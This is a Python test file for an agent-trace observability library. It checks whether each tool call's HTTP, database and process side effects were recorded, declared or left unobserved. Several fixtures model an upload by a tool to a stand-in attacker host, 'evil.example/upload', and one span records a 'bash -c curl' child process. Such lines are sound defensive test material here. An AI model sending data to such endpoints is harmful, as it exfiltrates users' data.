"""Tool scopes: side effects are proven absent only where every executed tool call was watched.

Hand-built GenAI-semconv runs: an agent whose model asks for two tools, each run in its own
``execute_tool`` span; what each tool's scope holds decides the side-effect channels.
"""

from __future__ import annotations

import json
from typing import Any

from span_factory import mk

from rampart_otel.channels import ChannelState, CoverageSource, ReasonCode
from rampart_otel.declare import TOOL_SIDE_EFFECTS_ATTRIBUTE as TOOL_DECLARATION_KEY
from rampart_otel.evaluation.assume import declare_run_tools
from rampart_otel.model import (
    AgentRun,
    Destination,
    PlaceState,
    Run,
    ScopeEvidence,
    ScopeState,
    Span,
    ToolCall,
    ToolCallStatus,
    ToolScope,
)
from rampart_otel.normalize import normalize
from rampart_otel.places import Overlay, declared_by_policy, place, side_effect_decisions
from rampart_otel.wording import worded

TRACE = "0af7651916cd43dd8448eb211c80319c"
LOST = "1bf7651916cd43dd8448eb211c80319d"  # a trace whose context the framework lost
OBSERVED, PARTIAL, UNOBSERVED = ChannelState.OBSERVED, ChannelState.PARTIAL, ChannelState.UNOBSERVED
HTTP, DB = "side_effects.http_request", "side_effects.db_query"
GET = {"http.request.method": "GET", "url.full": "https://weather.example/today"}
POST = {"http.request.method": "POST", "url.full": "https://evil.example/upload"}
INSERT = {"db.system": "sqlite", "db.statement": "INSERT INTO notes VALUES (1)"}


def run_of(*spans: Span) -> AgentRun:
    return normalize(Run(TRACE, sorted({s.trace_id for s in spans}), list(spans)))


def channel(agent: AgentRun, key: str) -> tuple[ChannelState, str]:
    coverage = agent.coverage.get(key)
    return coverage.state, " | ".join(coverage.reasons)


def chat_asking(*calls: tuple[str, str] | tuple[str, str, Any]) -> dict[str, Any]:
    """A model call asking for tools: (name, call id[, arguments: {} unless given])."""
    parts = []
    for name, call_id, *arguments in calls:
        given = arguments[0] if arguments else {}
        parts.append({"type": "tool_call", "id": call_id, "name": name, "arguments": given})
    output = [{"role": "assistant", "parts": parts, "finish_reason": "tool_call"}]
    return {"gen_ai.operation.name": "chat", "gen_ai.output.messages": json.dumps(output)}


def chat_answer() -> dict[str, Any]:
    output = [
        {
            "role": "assistant",
            "parts": [{"type": "text", "content": "Done."}],
            "finish_reason": "stop",
        }
    ]
    return {"gen_ai.operation.name": "chat", "gen_ai.output.messages": json.dumps(output)}


def execute(name: str, call_id: str, **extra: Any) -> dict[str, Any]:
    return {
        "gen_ai.operation.name": "execute_tool",
        "gen_ai.tool.name": name,
        "gen_ai.tool.call.id": call_id,
        "gen_ai.tool.call.result": "ok",
        **extra,
    }


def two_tools(
    *, weather: dict[str, Any] | None = None, report: dict[str, Any] | None = None, **agent: Any
) -> list[Span]:
    """Agent → model asks get_weather and send_report → each runs (t1 30-60, t2 70-100) → answer."""
    return [
        mk("a0", "invoke_agent", {"gen_ai.operation.name": "invoke_agent"}, end=1000, **agent),
        mk("m1", "chat", chat_asking(("get_weather", "c1"), ("send_report", "c2")), parent="a0"),
        mk("t1", "execute_tool get_weather", execute("get_weather", "c1", **(weather or {})),
           parent="a0", start=30, end=60, **agent),
        mk("t2", "execute_tool send_report", execute("send_report", "c2", **(report or {})),
           parent="a0", start=70, end=100, **agent),
        mk("m2", "chat", chat_answer(), parent="a0", start=110),
    ]  # fmt: skip


def scope_states(agent: AgentRun) -> dict[str, ScopeState]:
    return {scope.tool: scope.state for scope in agent.tool_scopes}


def test_one_tools_request_says_nothing_about_anothers() -> None:
    """The issue's two-clients case: get_weather's GET is recorded, send_report's client is not."""
    agent = run_of(*two_tools(), mk("h1", "GET", GET, parent="t1", kind="CLIENT", start=31))
    assert scope_states(agent) == {
        "get_weather": ScopeState.RECORDED,
        "send_report": ScopeState.SILENT,
    }
    state, why = channel(agent, HTTP)
    assert state is PARTIAL
    assert "1 http_request side effect in the run" in why
    assert "tool call 'send_report' (span t2) recorded no I/O span" in why
    assert "instrument the client it uses, or declare the tool" in why


def test_every_tool_recorded_keeps_the_channel_observed() -> None:
    agent = run_of(
        *two_tools(),
        mk("h1", "GET", GET, parent="t1", kind="CLIENT", start=31),
        mk("h2", "POST", POST, parent="t2", kind="CLIENT", start=71),
    )
    assert set(scope_states(agent).values()) == {ScopeState.RECORDED}
    assert channel(agent, HTTP)[0] is OBSERVED


def test_io_outside_tool_calls_never_vouches_for_a_tool() -> None:
    """The framework's own memory store (an INSERT under the agent, not a tool) proves nothing
    about the tools: both are silent and the db channel is partial."""
    agent = run_of(*two_tools(), mk("d1", "INSERT", INSERT, parent="a0", kind="CLIENT", start=20))
    assert set(scope_states(agent).values()) == {ScopeState.SILENT}
    state, why = channel(agent, DB)
    assert state is PARTIAL and "tool calls 'get_weather' (span t1), 'send_report'" in why


def test_lost_context_io_inside_one_calls_window_is_that_calls_evidence() -> None:
    """A GET in a trace of its own (the context was lost), inside send_report's window only."""
    agent = run_of(
        *two_tools(),
        mk("h1", "GET", GET, kind="CLIENT", trace_id=LOST, start=75, end=80),
    )
    (effect,) = agent.side_effects
    assert effect.tool_call_index is not None
    assert agent.tool_calls[effect.tool_call_index].name == "send_report"
    report = next(s for s in agent.tool_scopes if s.tool == "send_report")
    assert report.state is ScopeState.RECORDED and report.evidence is ScopeEvidence.TIME_WINDOW
    assert scope_states(agent)["get_weather"] is ScopeState.SILENT


def test_lost_context_io_overlapping_parallel_calls_proves_neither() -> None:
    spans = two_tools()
    spans[3] = mk("t2", "execute_tool send_report", execute("send_report", "c2"), parent="a0",
                  start=40, end=100)  # fmt: skip
    agent = run_of(*spans, mk("h1", "GET", GET, kind="CLIENT", trace_id=LOST, start=50, end=55))
    (effect,) = agent.side_effects
    assert effect.tool_call_index is None
    assert set(scope_states(agent).values()) == {ScopeState.SILENT}


def test_io_in_the_same_trace_outside_the_tool_is_not_moved_by_time() -> None:
    """Context intact: a span under the agent that overlaps a tool in time is the agent's."""
    agent = run_of(*two_tools(), mk("h1", "GET", GET, parent="a0", kind="CLIENT", start=75))
    (effect,) = agent.side_effects
    assert effect.tool_call_index is None


def test_a_declaration_on_the_tools_span_closes_its_gap() -> None:
    agent = run_of(
        *two_tools(report={TOOL_DECLARATION_KEY: "none"}),
        mk("h1", "GET", GET, parent="t1", kind="CLIENT", start=31),
    )
    report = next(s for s in agent.tool_scopes if s.tool == "send_report")
    assert report.state is ScopeState.DECLARED and report.evidence is ScopeEvidence.SPAN
    state, why = channel(agent, HTTP)
    assert state is OBSERVED and "declared on its span (rampart_otel.declare)" in why


def test_an_unknown_declaration_value_is_no_declaration() -> None:
    agent = run_of(*two_tools(report={TOOL_DECLARATION_KEY: "nothing-bad"}))
    assert scope_states(agent)["send_report"] is ScopeState.SILENT


def test_the_policys_tool_declarations_reopen_the_channel() -> None:
    agent = run_of(*two_tools(), mk("h1", "GET", GET, parent="t1", kind="CLIENT", start=31))
    assert channel(agent, HTTP)[0] is PARTIAL
    declared = declare_run_tools(agent, {"send_report": "instrumented"})
    assert channel(declared, HTTP)[0] is OBSERVED
    assert "declared by the policy's tools:" in channel(declared, HTTP)[1]
    assert channel(agent, HTTP)[0] is PARTIAL  # the input run is unchanged
    assert declare_run_tools(agent, {"other_tool": "none"}) is agent


def test_every_call_declared_observes_the_channels_no_span_showed() -> None:
    pure = {TOOL_DECLARATION_KEY: "none"}
    agent = run_of(*two_tools(weather=pure, report=pure))
    state, why = channel(agent, HTTP)
    assert state is OBSERVED and agent.coverage.get(HTTP).source is CoverageSource.DECLARED
    assert "every tool call the run executed is declared" in why
    # One call silent: nothing is taken as observed.
    assert channel(run_of(*two_tools(weather=pure)), HTTP)[0] is UNOBSERVED


def test_the_process_declaration_covers_its_own_tools_for_its_kinds_only() -> None:
    resource = {"service.name": "weather-agent", "rampart.coverage": ["side_effects.http_request"]}
    agent = run_of(
        *two_tools(resource=resource),
        mk("h1", "GET", GET, parent="t1", kind="CLIENT", start=31, resource=resource),
        mk("d1", "INSERT", INSERT, parent="t1", kind="CLIENT", start=40, resource=resource),
    )
    report = next(s for s in agent.tool_scopes if s.tool == "send_report")
    assert report.state is ScopeState.SILENT and report.exempt_kinds == ("http_request",)
    assert channel(agent, HTTP)[0] is OBSERVED
    assert channel(agent, DB)[0] is PARTIAL  # the process declared http, not db


def mcp_client(name: str) -> dict[str, Any]:
    return {"mcp.method.name": "tools/call", "gen_ai.tool.name": name}


def mcp_run(*server: Span) -> AgentRun:
    return run_of(
        mk("a0", "invoke_agent", {"gen_ai.operation.name": "invoke_agent"}, end=1000),
        mk("m1", "chat", chat_asking(("send_report", "c2")), parent="a0"),
        mk("c2", "MCP send tools/call send_report", mcp_client("send_report"), parent="a0",
           kind="CLIENT", start=30, end=60),
        mk("h0", "GET", GET, parent="a0", kind="CLIENT", start=65),
        mk("m2", "chat", chat_answer(), parent="a0", start=110),
        *server,
    )  # fmt: skip


def test_a_tool_on_an_untraced_mcp_server_is_out_of_process() -> None:
    agent = mcp_run()
    (scope,) = agent.tool_scopes
    assert scope.state is ScopeState.OUT_OF_PROCESS and scope.remote == "mcp_server"
    state, why = channel(agent, HTTP)
    assert state is PARTIAL and "ran on an MCP server whose spans are not in the trace" in why


def test_a_traced_mcp_servers_io_is_the_tools_evidence() -> None:
    server = {"service.name": "weather-mcp-server"}
    agent = mcp_run(
        mk("s2", "tools/call send_report", mcp_client("send_report"), parent="c2", kind="SERVER",
           start=31, end=59, resource=server),
        mk("h2", "POST", POST, parent="s2", kind="CLIENT", start=32, resource=server),
    )  # fmt: skip
    (scope,) = agent.tool_scopes
    assert scope.state is ScopeState.RECORDED and scope.io_span_ids == ("h2",)
    assert channel(agent, HTTP)[0] is OBSERVED


def test_a_child_process_is_recorded_but_what_it_did_is_not() -> None:
    bash = {"process.executable.name": "bash", "process.command_args": ["bash", "-c", "curl x"]}
    agent = run_of(*two_tools(), mk("p1", "exec bash", bash, parent="t2", start=71),
                   mk("h1", "GET", GET, parent="t1", kind="CLIENT", start=31))  # fmt: skip
    report = next(s for s in agent.tool_scopes if s.tool == "send_report")
    assert report.state is ScopeState.OUT_OF_PROCESS and report.remote == "child_process"
    # send_report's process_exec is recorded; get_weather recorded only its GET, which says
    # nothing of a child process it may have started: process_exec is partial, naming it.
    state, why = channel(agent, "side_effects.process_exec")
    assert state is PARTIAL and "1 process_exec side effect in the run: bash (span p1)" in why
    assert "tool call 'get_weather' (span t1) recorded http_request but no process_exec" in why
    assert "send_report" not in why
    state, why = channel(agent, HTTP)
    assert state is PARTIAL and "started a child process" in why


def test_a_call_asked_for_and_never_run_is_no_scope() -> None:
    """With tool execution spans in the run, a call that has none, asked for by the model
    call that ended the conversation, did not run."""
    spans = [s for s in two_tools() if s.span_id not in ("t2", "m2")]
    agent = run_of(*spans, mk("h1", "GET", GET, parent="t1", kind="CLIENT", start=31))
    assert [s.tool for s in agent.tool_scopes] == ["get_weather"]
    assert channel(agent, HTTP)[0] is OBSERVED


def test_a_call_with_no_execution_span_the_conversation_went_on_after_may_have_run() -> None:
    """The model answered again after asking for send_report, so it was sent a result: the
    call ran (or was answered) where no span of this trace shows, its tool traced in another
    service or trace, or not at all. It is a silent scope, not a call that ran nothing."""
    spans = [s for s in two_tools() if s.span_id != "t2"]
    agent = run_of(*spans, mk("h1", "GET", GET, parent="t1", kind="CLIENT", start=31))
    assert scope_states(agent) == {
        "get_weather": ScopeState.RECORDED,
        "send_report": ScopeState.SILENT,
    }
    state, why = channel(agent, HTTP)
    assert state is PARTIAL and "send_report" in why


def test_the_policys_declaration_names_a_call_by_any_of_its_names() -> None:
    # Semantic Kernel's weather-send_report, declared by its function's own name.
    call = ToolCall(
        name="weather-send_report",
        call_id=None,
        arguments=None,
        result=None,
        status=ToolCallStatus.EXECUTED,
        span_ids=["t1"],
        trace_id="a" * 32,
        conventions=["gen_ai"],
        namespace="weather",
        local_name="send_report",
    )
    scope = ToolScope(call_index=0, tool=call.name, state=ScopeState.SILENT)
    for name in ("send_report", "weather-send_report"):
        (declared,) = declared_by_policy([scope], {name: "none"}, [call])
        assert declared.state is ScopeState.DECLARED
    assert declared_by_policy([scope], {"weather": "none"}, [call]) == (scope,)
    assert declared_by_policy([scope], {"send_report": "none"}) == (scope,)  # no call: by its tool


# --- places: each call and each side-effect kind on its own --------------------------------


def places_of(agent: AgentRun, tool: str) -> dict[str, PlaceState]:
    (scope,) = [s for s in agent.tool_scopes if s.tool == tool]
    return {kind: place(scope, kind) for kind in ("http_request", "db_query")}


def test_a_call_is_recorded_for_its_kinds_and_silent_for_the_others() -> None:
    """get_weather's GET says nothing of its DB, send_report's INSERT nothing of its HTTP:
    each kind seen is partial, naming the other call, with the kinds it did record."""
    agent = run_of(
        *two_tools(),
        mk("h1", "GET", GET, parent="t1", kind="CLIENT", start=31),
        mk("d2", "INSERT", INSERT, parent="t2", kind="CLIENT", start=71),
    )
    assert scope_states(agent) == dict.fromkeys(("get_weather", "send_report"), ScopeState.RECORDED)
    assert places_of(agent, "get_weather") == {
        "http_request": PlaceState.RECORDED,
        "db_query": PlaceState.SILENT,
    }
    assert places_of(agent, "send_report") == {
        "http_request": PlaceState.SILENT,
        "db_query": PlaceState.RECORDED,
    }
    state, why = channel(agent, HTTP)
    assert state is PARTIAL
    assert (
        "tool call 'send_report' (span t2) recorded db_query but no http_request span: "
        "evidence of one kind says nothing of another" in why
    )
    assert "get_weather" not in why.split(" | ", 1)[1]
    state, why = channel(agent, DB)
    assert state is PARTIAL
    assert "tool call 'get_weather' (span t1) recorded http_request but no db_query span" in why
    assert agent.coverage.level.value == "tool_only"


def test_a_call_that_recorded_every_kind_seen_leaves_none_open() -> None:
    """One call records both kinds, the other only HTTP: HTTP is observed, DB is not."""
    agent = run_of(
        *two_tools(),
        mk("h1", "GET", GET, parent="t1", kind="CLIENT", start=31),
        mk("d1", "INSERT", INSERT, parent="t1", kind="CLIENT", start=40),
        mk("h2", "POST", POST, parent="t2", kind="CLIENT", start=71),
    )
    assert places_of(agent, "get_weather") == dict.fromkeys(
        ("http_request", "db_query"), PlaceState.RECORDED
    )
    assert channel(agent, HTTP)[0] is OBSERVED
    state, why = channel(agent, DB)
    assert state is PARTIAL
    assert "tool call 'send_report' (span t2) recorded http_request but no db_query" in why


def handed(report: Any, *io: Span) -> AgentRun:
    """two_tools, send_report asked for with ``report`` as its arguments; get_weather's GET."""
    spans = two_tools()
    spans[1] = mk(
        "m1",
        "chat",
        chat_asking(("get_weather", "c1", {"city": "Paris"}), ("send_report", "c2", report)),
        parent="a0",
    )
    return run_of(*spans, mk("h1", "GET", GET, parent="t1", kind="CLIENT", start=31), *io)


def report_scope(agent: AgentRun) -> ToolScope:
    return next(s for s in agent.tool_scopes if s.tool == "send_report")


def test_a_url_handed_to_a_call_that_no_request_reached_is_unmet() -> None:
    """send_report recorded a request, but not to the host it was handed: the upload may
    have gone through a client that is not instrumented."""
    agent = handed(
        {"endpoint": "https://evil.example/upload"},
        mk("h2", "GET", GET, parent="t2", kind="CLIENT", start=71),
    )
    scope = report_scope(agent)
    assert scope.state is ScopeState.RECORDED
    assert scope.unmet == (Destination("endpoint", "evil.example"),)
    assert place(scope, "http_request") is PlaceState.UNMET
    assert place(scope, "db_query") is PlaceState.SILENT  # the claim is of HTTP only
    state, why = channel(agent, HTTP)
    assert state is PARTIAL
    assert (
        "'send_report' was handed 'evil.example' (argument 'endpoint'), and no request "
        "recorded under the call went there" in why
    )
    # The destination is a claim of HTTP: DB's reason names the call silent, not the host.
    state, why = channel(agent, DB)
    assert state is UNOBSERVED
    assert "tool calls 'get_weather' (span t1), 'send_report' (span t2) recorded http" in why
    assert "evil.example" not in why


def test_a_url_a_request_of_the_call_reached_is_met() -> None:
    """The POST went to the host handed (on another port, by an upper-case URL): met."""
    post = {"http.request.method": "POST", "url.full": "https://evil.example:8443/upload"}
    agent = handed(
        {"endpoint": "HTTPS://Evil.Example/upload"},
        mk("h2", "POST", post, parent="t2", kind="CLIENT", start=71),
    )
    scope = report_scope(agent)
    assert scope.unmet == () and place(scope, "http_request") is PlaceState.RECORDED
    assert channel(agent, HTTP)[0] is OBSERVED


def test_a_bare_host_argument_is_a_destination_wherever_it_sits() -> None:
    agent = handed(
        {"to": {"hosts": ["Backup.Example.org"]}},
        mk("h2", "POST", POST, parent="t2", kind="CLIENT", start=71),
    )
    scope = report_scope(agent)
    assert scope.unmet == (Destination("to.hosts[0]", "backup.example.org"),)
    assert place(scope, "http_request") is PlaceState.UNMET
    state, why = channel(agent, HTTP)
    assert state is PARTIAL
    assert "'send_report' was handed 'backup.example.org' (argument 'to.hosts[0]')" in why


def test_a_file_name_or_a_url_in_a_sentence_is_no_destination() -> None:
    """report.pdf ends like a host but is a file; a URL inside text is not the argument."""
    agent = handed(
        {"file": "report.pdf", "note": "see https://evil.example/upload for details"},
        mk("h2", "POST", POST, parent="t2", kind="CLIENT", start=71),
    )
    scope = report_scope(agent)
    assert scope.unmet == () and place(scope, "http_request") is PlaceState.RECORDED
    assert channel(agent, HTTP)[0] is OBSERVED


def test_a_destination_handed_to_a_call_that_recorded_no_http_is_named_too() -> None:
    """send_report recorded only its INSERT: silent for HTTP, and the host it was handed is
    named with it."""
    agent = handed(
        {"url": "https://evil.example/upload"},
        mk("d2", "INSERT", INSERT, parent="t2", kind="CLIENT", start=71),
    )
    scope = report_scope(agent)
    assert place(scope, "http_request") is PlaceState.SILENT
    state, why = channel(agent, HTTP)
    assert state is PARTIAL
    assert "tool call 'send_report' (span t2) recorded db_query but no http_request" in why
    assert "'send_report' was handed 'evil.example' (argument 'url')" in why


def test_the_policys_declaration_closes_a_recorded_calls_other_kinds() -> None:
    """send_report recorded its INSERT, silent for HTTP; declared by the policy (an overlay
    on the run's places), it is declared for every kind: HTTP is observed again, while
    get_weather, not declared, still leaves DB partial."""
    agent = run_of(
        *two_tools(),
        mk("h1", "GET", GET, parent="t1", kind="CLIENT", start=31),
        mk("d2", "INSERT", INSERT, parent="t2", kind="CLIENT", start=71),
    )
    assert agent.places is not None and channel(agent, HTTP)[0] is PARTIAL
    decisions = side_effect_decisions(agent.places, Overlay({"send_report": "instrumented"}))
    http = worded(decisions[HTTP])
    assert http.state is OBSERVED
    assert "tool call 'send_report' (span t2) declared by the policy's tools:" in http.reasons
    db = worded(decisions[DB])
    assert db.state is PARTIAL
    assert "tool call 'get_weather' (span t1) recorded http_request but no db_query" in " | ".join(
        db.reasons
    )
    (declared,) = declared_by_policy(
        [report_scope(agent)], {"send_report": "instrumented"}, agent.tool_calls
    )
    assert {kind: place(declared, kind) for kind in ("http_request", "db_query")} == dict.fromkeys(
        ("http_request", "db_query"), PlaceState.DECLARED
    )


def test_the_process_declaration_answers_a_destination_no_request_reached() -> None:
    """The agent's process declares its HTTP instrumented (rampart.coverage): a request to
    the host send_report was handed would have been recorded, so none went there. The
    declaration closes the claim as it closes the place of a call that recorded nothing."""
    resource = {"service.name": "weather-agent", "rampart.coverage": [HTTP]}
    spans = two_tools(resource=resource)
    spans[1] = mk(
        "m1",
        "chat",
        chat_asking(
            ("get_weather", "c1", {"city": "Paris"}),
            ("send_report", "c2", {"endpoint": "https://evil.example/upload"}),
        ),
        parent="a0",
    )
    agent = run_of(
        *spans,
        mk("h1", "GET", GET, parent="t1", kind="CLIENT", start=31, resource=resource),
        mk("h2", "GET", GET, parent="t2", kind="CLIENT", start=71, resource=resource),
    )
    scope = report_scope(agent)
    assert scope.unmet == (Destination("endpoint", "evil.example"),)
    assert scope.exempt_kinds == ("http_request",)
    assert place(scope, "http_request") is PlaceState.RECORDED
    state, why = channel(agent, HTTP)
    assert state is OBSERVED, why
    assert "evil.example" not in why


# --- a framework's agent-as-tool call (conventions.agent_tools) ---------------------------

CREWAI = "openinference.instrumentation.crewai"
COWORKER = {
    "task": {"type": "string"},
    "context": {"type": "string"},
    "coworker": {"type": "string"},
}


def _offering_coworker(**attributes: Any) -> dict[str, Any]:
    """A model call's attributes with CrewAI's coworker tool among the tools it offered."""
    definition = {
        "type": "function",
        "function": {"name": "delegate_work_to_coworker", "parameters": {"properties": COWORKER}},
    }
    return {**attributes, "llm.tools.0.tool.json_schema": json.dumps(definition)}


def _coworker_tool(span_id: str, **options: Any) -> Span:
    """CrewAI's ``Delegate work to coworker`` tool span, as its instrumentor records it."""
    schema = {"properties": COWORKER, "title": "DelegateWorkToolSchema", "type": "object"}
    attributes = {
        "openinference.span.kind": "TOOL",
        "tool.name": "Delegate work to coworker",
        "tool.parameters": json.dumps(schema),
        "input.value": '{"task": "weather", "context": "", "coworker": "reporter"}',
        "output.value": "Paris: 18C",
    }
    return mk(span_id, "Delegate work to coworker.run", attributes, scope=CREWAI, **options)


def _lead(*inside: Span, executed: bool = True) -> AgentRun:
    """A lead agent whose model delegates to a coworker, then answers; ``inside``: spans
    under the delegating call's execution span (``t1``), if it has one."""
    asking = _offering_coworker(**chat_asking(("delegate_work_to_coworker", "c1")))
    spans = [
        mk("a0", "invoke_agent", {"gen_ai.operation.name": "invoke_agent"}, end=1000),
        mk("m1", "chat", asking, parent="a0", start=1, end=10),
        *([_coworker_tool("t1", parent="a0", start=20, end=90)] if executed else []),
        *inside,
        mk("m2", "chat", _offering_coworker(**chat_answer()), parent="a0", start=100),
    ]
    return run_of(*spans)


def _coworkers_run() -> list[Span]:
    """The coworker's own model call and tool run, with its GET, under ``t1``."""
    return [
        mk("m3", "chat", chat_asking(("get_weather", "c3")), parent="t1", start=21, end=30),
        mk("t3", "execute_tool get_weather", execute("get_weather", "c3"), parent="t1",
           start=31, end=60),
        mk("h3", "GET", GET, parent="t3", kind="CLIENT", start=32),
        mk("m4", "chat", chat_answer(), parent="t1", start=61, end=80),
    ]  # fmt: skip


def test_an_agent_tool_holding_its_nested_agents_run_is_delegated() -> None:
    """The coworker's calls, with their I/O, are the delegating call's evidence."""
    agent = _lead(*_coworkers_run())
    assert scope_states(agent) == {
        "delegate_work_to_coworker": ScopeState.DELEGATED,
        "get_weather": ScopeState.RECORDED,
    }
    assert channel(agent, "tool_calls")[0] is OBSERVED
    assert channel(agent, HTTP)[0] is OBSERVED


def test_an_agent_tool_with_no_execution_span_leaves_its_agents_calls_unread() -> None:
    """The delegating call's whole subtree traced elsewhere: only the model's request is
    left, which the framework's definition shows is an agent-as-tool call."""
    agent = _lead(executed=False)
    (scope,) = agent.tool_scopes
    assert scope.state is ScopeState.OUT_OF_PROCESS and scope.remote == "nested_agent"
    state, why = channel(agent, "tool_calls")
    assert state is PARTIAL
    assert "'delegate_work_to_coworker' (no execution span) ran another agent as the tool" in why
    assert "trace the agent the tool runs in the same process and trace as its caller" in why
    codes = [reason.code for reason in agent.coverage.get("tool_calls").codes]
    assert ReasonCode.TOOL_CALLS_NESTED_AGENT in codes
    assert channel(agent, "tool_calls.arguments")[0] is PARTIAL
    state, why = channel(agent, HTTP)
    assert state is not OBSERVED and "that agent's run is not in the trace" in why


def test_an_agent_tool_whose_span_holds_no_agent_or_model_span_is_not_delegated() -> None:
    """I/O under the call without the nested agent's model calls: what that agent called
    is not in the run, and the I/O vouches for none of it."""
    agent = _lead(mk("h1", "GET", GET, parent="t1", kind="CLIENT", start=40))
    (scope,) = agent.tool_scopes
    assert scope.state is ScopeState.OUT_OF_PROCESS and scope.remote == "nested_agent"
    assert channel(agent, "tool_calls")[0] is PARTIAL
    state, why = channel(agent, HTTP)
    assert state is PARTIAL and "(span t1) ran another agent as the tool" in why


def test_a_users_tool_that_calls_a_model_is_no_agent_tool() -> None:
    """A tool of the user's with model spans under it is judged as any tool: its own POST
    through an uninstrumented client is not vouched for by the model's spans."""
    spans = [s for s in two_tools() if s.span_id != "m2"]
    agent = run_of(*spans, mk("m3", "chat", chat_answer(), parent="t2", start=71, end=80),
                   mk("h1", "GET", GET, parent="t1", kind="CLIENT", start=31),
                   mk("m2", "chat", chat_answer(), parent="a0", start=110))  # fmt: skip
    assert scope_states(agent)["send_report"] is ScopeState.SILENT
    assert channel(agent, HTTP)[0] is PARTIAL
